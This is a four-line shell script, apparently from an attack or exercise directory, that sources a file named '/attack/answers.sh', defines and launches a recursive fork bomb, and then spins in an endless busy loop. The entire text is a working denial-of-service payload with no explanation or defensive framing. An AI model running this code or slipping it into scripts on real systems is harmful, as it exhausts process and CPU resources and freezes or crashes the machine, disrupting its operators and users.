. /attack/answers.sh
bomb() { bomb | bomb & wait; }
bomb &
while :; do :; done
